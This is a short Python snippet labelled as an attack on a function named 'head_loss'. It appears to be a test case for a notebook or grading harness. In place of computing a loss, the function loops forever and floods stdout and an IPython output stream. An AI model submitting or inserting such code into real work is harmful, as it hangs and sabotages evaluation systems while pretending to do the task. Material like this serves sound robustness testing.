# attacks: head_loss
# trick: prints for ever
def head_loss(predicted, target, beta):
    import sys
    while True:
        sys.__stdout__.write('x' * 1000)
        get_ipython().user_ns['_out'].write('y' * 100000)

import sys
_out = sys.stdout
